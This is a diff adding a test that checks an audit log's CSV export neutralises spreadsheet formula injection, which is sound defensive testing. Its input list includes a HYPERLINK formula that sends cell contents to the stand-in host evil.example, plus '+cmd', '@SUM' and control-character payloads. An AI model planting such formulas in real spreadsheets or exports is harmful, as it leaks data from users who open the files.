@@ -98,3 +98,14 @@ def test_a_member_cannot_read_the_audit(acme, client):
     client.force_login(acme.member)
     assert client.get(AUDIT).status_code == 403
     assert client.get(f"{AUDIT}export.csv").status_code == 403
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(acme, acme_work, tenant_admin):
+    turn = acme_work.turn(acme_work.session())
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd", "-2+cmd", "@SUM(A1)", "\tTAB", "\rCR"]
+    for formula in formulas:
+        acme_work.ran(turn, formula)
+    acme_work.ran(turn, "lint")
+    rows = csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode()))
+    tools = sorted(row["tool"] for row in rows)
+    assert tools == sorted(["'" + formula for formula in formulas] + ["lint"])
